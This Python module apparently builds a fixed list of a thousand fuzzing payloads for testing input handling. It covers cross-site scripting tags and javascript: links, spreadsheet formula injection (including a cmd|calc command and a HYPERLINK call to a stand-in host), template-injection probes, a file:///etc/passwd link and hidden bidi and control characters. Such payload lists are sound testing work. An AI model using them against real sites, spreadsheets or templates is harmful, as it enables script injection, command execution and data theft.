"""A thousand texts that try to be something else than text."""

from itertools import chain, islice, product

_CALLS = ("alert(1)", "fetch('//e.example')", "import('data:text/javascript,1')", "x`1`")
_TAGS = (
    "<script>{}</script>",
    "<SCRIPT SRC=//e.example/x.js>{}</SCRIPT>",
    "<img src=x onerror={}>",
    "<img src=x onerror='{}' ",
    "<svg/onload={}>",
    "<svg><script>{}</script></svg>",
    "<svg><a xlink:href='javascript:{}'><text>x</text></a></svg>",
    "<math><mtext><style><img src onerror={}></style></mtext></math>",
    "<iframe srcdoc='&lt;script&gt;{}&lt;/script&gt;'>",
    "<body onload={}>",
    "<details open ontoggle={}>",
    "<a href='javascript:{}'>here</a>",
    "<form action='javascript:{}'><button>x",
    "<meta http-equiv=refresh content='0;url=javascript:{}'>",
    "<base href='javascript:{}//'>",
    "<object data='javascript:{}'>",
    "<style>@import 'javascript:{}';</style>",
    "</style><script>{}</script>",
    "</title><script>{}</script>",
    "</textarea><script>{}</script>",
    "</q></li></ol><script>{}</script>",
    "</mark></p><p onclick={}>",
    "--><script>{}</script><!--",
    "]]><script>{}</script>",
    "<![CDATA[<script>{}</script>]]>",
    "<?xml-stylesheet href='javascript:{}'?>",
    "<!DOCTYPE x [<!ENTITY e '{}'>]>&e;",
    "' onmouseover={} '",
    '" onmouseover={} "',
    '" style="background:url(javascript:{})',
    "` onmouseover={} `",
    "&lt;script&gt;{}&lt;/script&gt;",
    "&#x3c;script&#x3e;{}&#60;/script&#62;",
    "%3Cscript%3E{}%3C/script%3E",
    "\uff1cscript\uff1e{}\uff1c/script\uff1e",
    "<\u0130mg src onerror={}>",
    "<scr\u200bipt>{}</scr\u200bipt>",
    "<scr\x01ipt>{}</scr\x01ipt>",
)
_LINKS = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "\x01javascript:{}",
    " javascript:{}",
    "javascript&colon;{}",
    "data:text/html,<script>{}</script>",
    "data:image/svg+xml;base64,{}",
    "vbscript:{}",
    "blob:{}",
    "file:///etc/passwd?{}",
    "//e.example/{}",
    "mailto:a@e.example?{}",
    "ftp://e.example/{}",
    "https://e.example/'onclick={}//",
    'https://e.example/"onclick="{}',
    "http://[::1]/<script>{}",
)
_FORMULAS = (
    '=HYPERLINK("http://e.example/?{}","x")',
    "=cmd|' /C calc'!{}",
    "+{}",
    "-{}",
    "@SUM({})",
    "\t={}",
    "\r={}",
    "\n={}",
    "\u3000={}",
    "\uff1d{}",
    "\uff0b{}",
    "'={}",
    '"={}"',
    ";={}",
    ",={}",
)
_MARKDOWN = (
    "[x](javascript:{})",
    "[x]: javascript:{}",
    "![x](javascript:{})",
    "![x](https://e.example/{}.png)",
    "<javascript:{}>",
    "<https://e.example/{}>",
    "# {}",
    "## {}\n===",
    "- {}",
    "* {}",
    "1. {}",
    "1) {}",
    "> {}",
    "    {}",
    "```\n{}\n```",
    "~~~{}",
    "`{}`",
    "**{}**",
    "__{}__",
    "~~{}~~",
    "||{}||",
    "| a | {} |\n|---|---|",
    "---\ntitle: {}\n---",
    "***",
    "{}\n---",
    "{}\n===",
    "[^1]: {}",
    "[[{}]]",
    "$${}$$",
    "\\({}\\)",
    "&amp;{}&#35;",
    "\\",
    "{}\\",
    "{}!",
    ":::{}",
    "% {}",
    '<a id="c1"></a>{}',
    "<!-- {}",
    "www.e.example/{}",
    "a@e.example {}",
)
_TEMPLATES = (
    "{{{{ {} }}}}",
    "{{% import os %}}{}",
    "{{# {} #}}",
    "${{{}}}",
    "#{{{}}}",
    "<%= {} %>",
    "{{{{ ''.__class__.__mro__[1].__subclasses__() }}}}{}",
    "%s%n%x{}",
    "{{0.__class__}}{}",
)
_HIDDEN = (
    "\u202e{}",
    "\u202d{}\u202c",
    "\u2066{}\u2069",
    "\u2067{}",
    "\u200f{}",
    "\u061c{}",
    "\x1b[31m{}\x1b[0m",
    "\x07{}",
    "\x08\x08\x08{}",
    "\x7f{}",
    "\x85{}",
    "\x9b31m{}",
    "\ufeff{}",
    "\ufffe{}",
    "\uffff{}",
    "\u2028{}",
    "\u2029{}",
    "\v{}\f",
    "\ud83d\ude00".encode("utf-16", "surrogatepass").decode("utf-16") + "{}",
    "e\u0301\u0301\u0301\u0301{}",
    "\U000e0041\U000e0042{}",
)
_LONG = ("A" * 10_000, "=" + "B" * 10_000, "<" * 10_000, "\u202e" + "C" * 10_000, "`" * 10_000)


def payloads(count: int = 1_000) -> list[str]:
    """So many payloads, all different; the same ones each time."""
    kinds = (_TAGS, _LINKS, _FORMULAS, _MARKDOWN, _TEMPLATES, _HIDDEN)
    calls = (f"{call}/*{number}*/" for number in range(9) for call in _CALLS)
    made = (form.format(call) for call, form in product(calls, chain.from_iterable(zip_all(kinds))))
    found = list(islice(dict.fromkeys(made), count - len(_LONG)))
    for place, word in enumerate(_LONG):
        found.insert(place * count // len(_LONG), word)
    return found


def zip_all(kinds: tuple[tuple[str, ...], ...]) -> list[list[str]]:
    """The forms of all kinds, mixed: each batch of payloads has some of each."""
    longest = max(map(len, kinds))
    return [[kind[place] for kind in kinds if place < len(kind)] for place in range(longest)]
